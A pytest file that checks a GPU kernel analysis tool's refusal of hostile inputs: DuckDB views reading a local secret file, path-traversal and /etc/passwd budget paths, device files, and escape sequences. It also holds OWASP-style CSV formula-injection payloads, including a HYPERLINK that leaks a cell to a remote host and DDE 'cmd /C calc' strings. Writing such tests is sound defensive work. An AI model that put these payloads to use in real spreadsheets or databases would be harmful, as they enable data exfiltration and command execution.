"""Hostile scan results, budget files and CSV cells (issue 25, items 2, 3 and 7).

A result file or budget someone else produced is data: reading it runs none of its SQL and reads no file
outside it; a budget's paths stay in its own directory tree; every damaged input ends in one line naming the
file and exit code 2; CSV cells cannot start a spreadsheet formula. The CLI runs in this process
(``isalens.cli.main``), which turns any exception of ours into exit code 3, so "exit 2" also says "no crash".
"""

from __future__ import annotations

import csv
import io
import json
import os
import struct
from pathlib import Path
from typing import Any

import pytest

from isalens.cli import main
from isalens.errors import IsalensError

duckdb = pytest.importorskip("duckdb")
pa = pytest.importorskip("pyarrow")
pq = pytest.importorskip("pyarrow.parquet")

from isalens.scan.store import Store  # noqa: E402

SECRET = "TOP-SECRET-7d1c0a"


def _row(kernel: str, **figures: Any) -> dict[str, Any]:
    return {"file": "a.hipfb", "source": "bundle 0", "target": "gfx90a", "content_hash": "h", "isalens_version": "t",
            "kernel": kernel, "error": None, "error_code": None, "vgpr_requested": 10, "occupancy_waves": 8.0,
            "spills": 0, **figures}


def write_result(out: Path, rows: list[dict[str, Any]]) -> Path:
    """A scan result written the way ``isalens scan`` writes one (a shard, then the final table)."""
    store = Store(out)
    store.write_shard(rows)
    store.finish([r["file"] for r in rows], [(r["file"], r["source"], r["content_hash"]) for r in rows])
    return out


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def refused(capsys: pytest.CaptureFixture[str], names: Path, *argv: str) -> str:
    """Run the CLI expecting one line naming ``names`` on stderr, exit 2, and the secret nowhere."""
    code, out, err = run(capsys, *argv)
    assert code == 2, err
    assert SECRET not in out and SECRET not in err
    assert len(err.strip().splitlines()) == 1 and str(names) in err and "internal error" not in err
    return err


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text(SECRET + "\n")
    return path


@pytest.fixture
def good(tmp_path: Path) -> Path:
    return write_result(tmp_path / "good.parquet", [_row("axpy"), _row("gemm", vgpr_requested=90)])


def _sql_text(value: Path | str) -> str:
    return "'" + str(value).replace("'", "''") + "'"


# --- results are data, not code -------------------------------------------------------------------------------

def test_a_kernels_view_in_a_duckdb_result_is_never_run(tmp_path: Path, secret: Path, good: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    hostile = tmp_path / "hostile.duckdb"
    con = duckdb.connect(str(hostile))
    # every column a scan table has, so only being a view (that reads a local file) is wrong with it
    con.execute("CREATE VIEW kernels AS SELECT 'a.hipfb' AS file, 'bundle 0' AS source, 'gfx90a' AS target, "
                "'h' AS content_hash, 't' AS isalens_version, content AS kernel, NULL::VARCHAR AS error, "
                f"NULL::VARCHAR AS error_code, 1 AS vgpr_requested FROM read_text({_sql_text(secret)})")
    con.close()
    # the oracle that the view does leak when run: DuckDB itself, with nothing turned off
    plain = duckdb.connect()
    plain.execute(f"ATTACH {_sql_text(hostile)} AS h (READ_ONLY)")
    assert SECRET in str(plain.execute("SELECT kernel FROM h.kernels").fetchall())
    plain.close()

    err = refused(capsys, hostile, "query", "select * from kernels", "--scan", str(hostile))
    assert "'kernels' is a view" in err
    refused(capsys, hostile, "query", "select * from kernels", "--scan", str(hostile), "--allow-files")
    refused(capsys, hostile, "diff", str(good), str(hostile), "--json")
    budget = tmp_path / "isalens.toml"
    budget.write_text("[defaults]\nspills = 0\n")
    refused(capsys, hostile, "check", str(hostile), "--budget", str(budget))


def test_a_duckdb_result_reads_nothing_outside_itself(tmp_path: Path, secret: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """kernels is a real table, but the file also carries a view that reads a local file: a query naming it
    is refused by DuckDB's external-access switch (and runs with --allow-files, which is what the switch
    guards: the same SQL, the secret printed)."""
    result = tmp_path / "result.duckdb"
    write_result(result, [_row("axpy")])
    con = duckdb.connect(str(result))
    con.execute(f"CREATE VIEW leak AS SELECT content FROM read_text({_sql_text(secret)})")
    con.close()
    code, out, _ = run(capsys, "query", "select kernel from kernels", "--scan", str(result))
    assert code == 0 and "axpy" in out
    err = refused(capsys, result, "query", "select * from scan.leak", "--scan", str(result))
    assert "query failed" in err
    code, out, _ = run(capsys, "query", "select * from scan.leak", "--scan", str(result), "--allow-files")
    assert code == 0 and SECRET in out


@pytest.mark.parametrize("fmt", ["parquet", "duckdb"])
def test_query_cannot_read_write_attach_or_install_without_allow_files(
        fmt: str, tmp_path: Path, secret: Path, capsys: pytest.CaptureFixture[str]) -> None:
    result = write_result(tmp_path / f"r.{fmt}", [_row("axpy")])
    written, attached = tmp_path / "written.csv", tmp_path / "other.duckdb"
    for sql in (f"select * from read_text({_sql_text(secret)})",
                f"select * from read_csv({_sql_text(secret)})",
                f"COPY (select 42) TO {_sql_text(written)}",
                f"ATTACH {_sql_text(attached)} AS other",
                "INSTALL httpfs",
                "LOAD httpfs",
                "SET enable_external_access = true",
                f"select * from glob({_sql_text(secret.parent / '*')})"):
        refused(capsys, result, "query", sql, "--scan", str(result))
        assert not written.exists() and not attached.exists(), sql
    # the same reads and writes with --allow-files: the refusals above are the switch, not broken SQL
    code, out, _ = run(capsys, "query", f"select content from read_text({_sql_text(secret)})", "--scan",
                       str(result), "--allow-files")
    assert code == 0 and SECRET in out
    code, _, _ = run(capsys, "query", f"COPY (select 42) TO {_sql_text(written)}", "--scan", str(result),
                     "--allow-files")
    assert code == 0 and written.read_text().strip().splitlines()[-1] == "42"


def test_a_shard_directory_does_not_follow_symlinks_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outside = write_result(tmp_path / "outside.parquet", [_row(SECRET)])
    shards = tmp_path / "r.parquet.parts"
    shards.mkdir()
    pq.write_table(pa.Table.from_pylist([_row("axpy")]), shards / "shard-1.parquet")
    (shards / "shard-2.parquet").symlink_to(outside)
    code, out, err = run(capsys, "query", "select kernel from kernels", "--scan", str(shards), "--csv")
    assert code == 0, err
    assert out.splitlines() == ["kernel", "axpy"]


@pytest.mark.parametrize(("columns", "message"), [
    ({"file": ["a"], "kernel": ["k"]}, "no column"),
    ({**{c: ["x"] for c in ("file", "source", "target", "content_hash", "isalens_version", "error", "error_code")},
      "kernel": [b"\x00binary"]}, "column 'kernel' has type BLOB"),
    ({**{c: ["x"] for c in ("file", "source", "target", "content_hash", "isalens_version", "kernel", "error_code")},
      "error": [None], "vgpr_requested": ["many"]}, "column 'vgpr_requested' has type VARCHAR"),
])
def test_a_table_that_is_not_a_scan_result_is_named(columns: dict[str, list[Any]], message: str, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "other.parquet"
    pq.write_table(pa.table(columns), path)
    assert message in refused(capsys, path, "diff", str(path), str(path))


def test_an_earlier_result_with_a_kernels_view_stops_the_scan(tmp_path: Path, secret: Path) -> None:
    out = tmp_path / "r.duckdb"
    con = duckdb.connect(str(out))
    con.execute(f"CREATE VIEW kernels AS SELECT content AS file, '' AS source, '' AS content_hash "
                f"FROM read_text({_sql_text(secret)})")
    con.close()
    with pytest.raises(IsalensError, match="'kernels' is a view") as caught:
        Store(out).previous_keys()
    assert SECRET not in str(caught.value)


# --- damaged results: exit 2 naming the file ------------------------------------------------------------------

def _damaged(good: Path, part: str) -> Path:
    """``good`` with its pages or half its footer overwritten. Parquet ends with the Thrift footer, its length
    (4 bytes little-endian) and ``PAR1`` (Apache Parquet format spec, "File format"); the pages lie between
    the leading ``PAR1`` and the footer."""
    data = bytearray(good.read_bytes())
    footer = struct.unpack("<I", data[-8:-4])[0]
    start = len(data) - 8 - footer
    if part == "pages":
        data[4:start] = b"\xff" * (start - 4)
    else:
        data[start:start + footer // 2] = b"\xff" * (footer // 2)
    out = good.with_name(f"{part}.parquet")
    out.write_bytes(bytes(data))
    return out


@pytest.mark.parametrize("part", ["pages", "footer"])
def test_damaged_parquet_is_one_message_in_every_command(part: str, tmp_path: Path, good: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    bad = _damaged(good, part)
    budget = tmp_path / "isalens.toml"
    budget.write_text("[defaults]\nspills = 0\n")
    refused(capsys, bad, "diff", str(good), str(bad))
    refused(capsys, bad, "check", str(bad), "--budget", str(budget))
    refused(capsys, bad, "query", "select * from kernels", "--scan", str(bad))
    refused(capsys, bad, "query", "select kernel from kernels", "--scan", str(bad), "--csv")


def test_a_device_or_missing_result_is_one_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fifo = tmp_path / "r.parquet"
    os.mkfifo(fifo)  # reading a FIFO with no writer would wait forever
    assert "not a regular file" in refused(capsys, fifo, "query", "select 1", "--scan", str(fifo))
    missing = tmp_path / "missing.duckdb"
    assert "no such scan result" in refused(capsys, missing, "query", "select 1", "--scan", str(missing))


# --- budget files are confined --------------------------------------------------------------------------------

@pytest.fixture
def project(tmp_path: Path, secret: Path) -> Path:
    root = tmp_path / "project"
    (root / "results").mkdir(parents=True)
    write_result(root / "results" / "r.parquet", [_row("axpy"), _row("gemm", vgpr_requested=90)])
    (root / "out_link").symlink_to(secret)
    (root / "zero_link").symlink_to("/dev/zero")
    os.mkfifo(root / "fifo")
    return root


@pytest.mark.parametrize(("path", "reason"), [
    ("/etc/passwd", "is absolute"),
    ("/dev/zero", "is absolute"),
    ("../outside/secret.txt", "leads outside"),
    ("../../x", "leads outside"),
    ("results/../../outside/secret.txt", "leads outside"),
    ("out_link", "leads outside"),
    ("zero_link", "leads outside"),
    ("fifo", "not a regular file or directory"),
    ("results/none.parquet", "no such file"),
    ("", "empty"),
])
def test_budget_paths_outside_the_tree_are_refused_without_content(
        path: str, reason: str, project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    budget = project / "isalens.toml"
    budget.write_text(f'paths = ["results/r.parquet", "{path}"]\n[defaults]\nspills = 0\n')
    err = refused(capsys, budget, "check", "--budget", str(budget))
    assert f"paths[1]: {path!r}" in err or (not path and "paths[1]: empty" in err)
    assert reason in err
    assert "root:" not in err  # /etc/passwd's first line starts "root:x:0:0"


def test_budget_paths_inside_the_tree_are_read(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    budget = project / "isalens.toml"
    budget.write_text('paths = ["results/../results/r.parquet"]\n[[budget]]\nkernel = "gemm"\nvgpr = 64\n')
    code, out, err = run(capsys, "check", "--budget", str(budget))
    # gemm's 90 VGPRs break its limit of 64; axpy (10) has no limit
    assert code == 1, err
    assert "FAIL  gfx90a  gemm: vgpr_requested 90 (at most 64)" in out and "2 kernel(s) checked" in out
    # a path that is not there yet is fine when the command line names what to check, but it stays confined
    budget.write_text('paths = ["build/not-yet.hipfb"]\n[[budget]]\nkernel = "gemm"\nvgpr = 100\n')
    assert run(capsys, "check", str(project / "results" / "r.parquet"), "--budget", str(budget))[0] == 0
    budget.write_text('paths = ["/etc/passwd"]\n[[budget]]\nkernel = "gemm"\nvgpr = 100\n')
    refused(capsys, budget, "check", str(project / "results" / "r.parquet"), "--budget", str(budget))


def test_check_without_a_budget_file_says_what_it_needs(tmp_path: Path, good: Path,
                                                        capsys: pytest.CaptureFixture[str],
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    # once "isalens.toml: error: cannot read: no such file", as if a file named on the command line had gone
    monkeypatch.chdir(tmp_path)
    err = refused(capsys, Path("isalens.toml"), "check", str(good))
    assert "no budget file" in err and "--budget FILE" in err
    # a file the command line names and that is not there stays the reader's error
    named = tmp_path / "b.toml"
    assert "no such file" in refused(capsys, named, "check", str(good), "--budget", str(named))


def test_a_budget_file_that_is_a_device_is_refused(capsys: pytest.CaptureFixture[str], good: Path) -> None:
    # read whole, /dev/zero never ends (the check grew to 17.7 GB); refused before a byte is read
    assert "not a regular file" in refused(capsys, Path("/dev/zero"), "check", str(good), "--budget", "/dev/zero")


# --- the budget's shape: exit 2 naming the file, one message per problem ---------------------------------------

@pytest.mark.parametrize(("text", "messages"), [
    # tomllib recurses once per nesting level: 100,000 levels exhaust Python's recursion limit
    ("paths = " + "[" * 100_000 + "]" * 100_000 + "\n", ["nested too deeply"]),
    ("[budget]\nvgpr = 64\n", ["budget must be an array of tables ([[budget]]), not a table ([budget])"]),
    # 5,000 hex digits: about 2**20000, far above 2**53 (and float() of it would overflow)
    ("[defaults]\nvgpr = 0x" + "f" * 5000 + "\n", ["[defaults]: vgpr must be between 0 and 2**53"]),
    # TOML 1.0 spells the special floats nan, inf, +inf, -inf; 1e400 is above the largest double, so inf
    ("[defaults]\nvgpr = nan\nspills = inf\n[[budget]]\nlds = -inf\ncode = 1e400\n",
     ["[defaults]: vgpr must be a finite number", "[defaults]: spills must be a finite number",
      "[[budget]] #1: lds must be a finite number", "[[budget]] #1: code must be a finite number"]),
    ("[defaults]\nvgpr = -1\n", ["[defaults]: vgpr must be between 0 and 2**53"]),
    ("[defaults]\nvgpr = true\n[[budget]]\nkernel = 3\n", ["[defaults]: vgpr must be a number, not a boolean",
                                                          "[[budget]] #1: kernel must be a string"]),
    ("paths = \"build\"\n", ["paths must be an array of strings, not a string"]),
    ("paths = [1]\n", ["paths[0] must be a string, not an integer"]),
    ("defaults = 3\n", ["defaults must be a table ([defaults]), not an integer"]),
    ("budget = [1, 2]\n", ["[[budget]] #1 must be a table", "[[budget]] #2 must be a table"]),
    ("[default]\nvgpr = 1\n", ["unknown key 'default'"]),
    ("[defaults]\nkernel = 'x'\n", ["[defaults]: unknown limit 'kernel'"]),
    # "[defaults]\n" is bytes 0-10, "vgpr = 1 # " 11-21: the bad byte is number 22
    (b"[defaults]\nvgpr = 1 # \xff\n", ["not a TOML budget: not UTF-8 text (byte 22)"]),
])
def test_budget_shape_problems_are_each_named(text: str | bytes, messages: list[str], tmp_path: Path, good: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    budget = tmp_path / "isalens.toml"
    budget.write_bytes(text if isinstance(text, bytes) else text.encode())
    err = refused(capsys, budget, "check", str(good), "--budget", str(budget))
    for message in messages:
        assert message in err
    assert err.count(";") == len(messages) - 1  # one message per problem, on one line


# --- safe outputs -------------------------------------------------------------------------------------------

#: OWASP CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection): cells starting with = + - @ tab
#: or carriage return are read as formulas; the fix it recommends is a single quote in front
HOSTILE_NAMES = ["=HYPERLINK(\"http://x/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_query_csv_cells_cannot_start_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    result = write_result(tmp_path / "r.parquet",
                          [_row(name, source=f"bundle {i}", vgpr_requested=i) for i, name in enumerate(HOSTILE_NAMES)]
                          + [_row("axpy", source="bundle 9")])
    code, out, err = run(capsys, "query", "select kernel, vgpr_requested - 3 AS d from kernels order by source",
                         "--scan", str(result), "--csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["kernel", "d"]
    assert [r[0] for r in rows[1:]] == ["'" + name for name in HOSTILE_NAMES] + ["axpy"]
    # numbers are not text: a negative difference stays a number (vgpr 0 - 3)
    assert rows[1][1] == "-3"


def test_sweep_and_livereg_csv_cells_cannot_start_a_formula() -> None:
    import dataclasses

    import isalens
    from isalens.report.csv import render_csv
    from isalens.report.sweep import SweepRow, render_sweep_csv
    from tests.conftest import EXAMPLES

    rows = [SweepRow(defines={"N": name}, arch="gfx90a", kernel=name, error=name) for name in HOSTILE_NAMES]
    parsed = list(csv.reader(io.StringIO(render_sweep_csv(rows))))
    header = parsed[0]
    for name, line in zip(HOSTILE_NAMES, parsed[1:], strict=True):
        cells = dict(zip(header, line, strict=True))
        assert cells["N"] == cells["kernel"] == cells["error"] == "'" + name

    report = isalens.analyze(EXAMPLES / "isa" / "fp16_half3_two_uint.gfx902.s").files[0].report
    assert report is not None
    kernel = dataclasses.replace(report.kernels[0], name=HOSTILE_NAMES[0])
    parsed = list(csv.reader(io.StringIO(render_csv(dataclasses.replace(report, kernels=(kernel,))))))
    assert {line[0] for line in parsed[1:]} == {"'" + HOSTILE_NAMES[0]}


def test_nan_figures_are_not_numbers_in_a_diff(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """NaN compares unequal to itself (IEEE 754), so a result holding NaN would differ from itself in every
    kernel; the same file diffed with itself has nothing changed."""
    result = write_result(tmp_path / "r.parquet", [_row("axpy", occupancy_waves=float("nan")),
                                                   _row("gemm", vgpr_requested=float("inf"))])
    code, out, err = run(capsys, "diff", str(result), str(result))
    assert code == 0, err
    assert out.splitlines()[-1].startswith("0 changed, 0 added, 0 removed, 2 unchanged")


# a join that holds three million keys in a hash table: about 100 MB of DuckDB memory, far over a 16 MB ceiling
_HUNGRY = "SELECT count(*) FROM range(3000000) a(i) JOIN range(3000000) b(j) ON i = j"


def test_duckdb_memory_has_a_ceiling(good: Path, monkeypatch: pytest.MonkeyPatch,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "query", "--scan", str(good), _HUNGRY)
    assert code == 0 and "3000000" in out, err  # the query itself is fine under the default ceiling
    monkeypatch.setenv("ISALENS_RESULTS_MEMORY", "16MB")
    err = refused(capsys, good, "query", "--scan", str(good), _HUNGRY)
    assert "Out of Memory" in err and "ISALENS_RESULTS_MEMORY" in err


def test_an_unreadable_memory_setting_is_one_message(good: Path, monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("ISALENS_RESULTS_MEMORY", "lots")
    err = refused(capsys, good, "query", "--scan", str(good), "SELECT 1")
    assert "ISALENS_RESULTS_MEMORY" in err


def test_diff_of_a_library_sized_result_reads_only_its_columns(tmp_path: Path) -> None:
    # 80,000 kernels (Debian's librocsparse has 88k) with 100 wide columns each: as dicts of every column diff
    # took 640 MB (found by tools/fuzz.py over the 500 MiB limit); it needs only the headline figures
    from tests.unit.test_hostile_binaries import run_measured

    wide = {f"extra_{i}": "x" * 40 for i in range(100)}
    rows = [_row(f"k{i}", vgpr_requested=i % 256, **wide) for i in range(80_000)]
    base = write_result(tmp_path / "base.parquet", rows)
    grown = [{**r, "vgpr_requested": r["vgpr_requested"] + 20} for r in rows[:3]]
    new = write_result(tmp_path / "new.parquet", grown + rows[3:])
    code, err, peak_mib = run_measured("diff", str(base), str(new), "--fail-on", "vgpr>+8")
    assert code == 1, err  # three kernels grew by 20 VGPRs: the rule is crossed
    assert peak_mib < 300, peak_mib


def test_query_streams_csv_and_json(tmp_path: Path) -> None:
    # 'select *' of a library-sized result as CSV or JSON held every row at once (found by tools/fuzz.py: 509 MB
    # for 80,000 rows of a full-schema result); written batch by batch it stays small. The aligned text table
    # needs every width first: it held every row as text (1.9 GB on the fuzzer's 80,000 x 133 result), and spools
    # the formatted blocks to a temporary file now
    from tests.unit.test_hostile_binaries import run_measured

    wide = {f"extra_{i}": "x" * 40 for i in range(100)}
    result = write_result(tmp_path / "wide.parquet", [_row(f"k{i}", **wide) for i in range(80_000)])
    for fmt in ("--csv", "--json", None):
        code, err, peak_mib = run_measured("query", "SELECT * FROM kernels", "--scan", str(result),
                                           *([fmt] if fmt else []))
        assert code == 0, err
        assert peak_mib < 300, (fmt, peak_mib)


def test_query_json_and_csv_are_whole_documents(good: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "query", "--scan", str(good), "SELECT kernel, vgpr_requested FROM kernels", "--json")
    assert code == 0 and json.loads(out) == [{"kernel": "axpy", "vgpr_requested": 10},
                                             {"kernel": "gemm", "vgpr_requested": 90}]
    code, out, _ = run(capsys, "query", "--scan", str(good), "SELECT kernel FROM kernels WHERE false", "--json")
    assert code == 0 and json.loads(out) == []
    code, out, _ = run(capsys, "query", "--scan", str(good), "SELECT kernel, vgpr_requested FROM kernels", "--csv")
    assert code == 0 and list(csv.reader(io.StringIO(out))) == [["kernel", "vgpr_requested"], ["axpy", "10"],
                                                                 ["gemm", "90"]]


def test_text_a_result_holds_is_printed_as_one_line_without_escapes(tmp_path: Path,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """A result someone else made may hold escape sequences and line breaks in its file names, kernel names, error
    messages and error lines: check and diff print each row as one line with them shown as '?', and a line that is
    not a number is not shown as one."""
    evil = "\x1b[31m\nFAKE"
    rows = [_row("k\x1b]0;title\x07"), {**_row("broken"), "file": f"a{evil}.hipfb", "error": f"bad{evil}",
                                        "error_code": "binary", "error_line": f"9{evil}"}]
    result = write_result(tmp_path / "evil.parquet", rows)
    base = write_result(tmp_path / "base.parquet", [_row("other")])
    budget = tmp_path / "isalens.toml"
    budget.write_text("[defaults]\nvgpr = 1\n")
    for argv, expected in ((("check", str(result), "--budget", str(budget)), 3),
                           (("diff", str(base), str(result)), 5)):
        code, out, _ = run(capsys, *argv)
        assert code == 1
        assert "\x1b" not in out and "\x07" not in out and len(out.splitlines()) == expected, out
        assert "a?[31m?FAKE.hipfb" in out and ":9" not in out
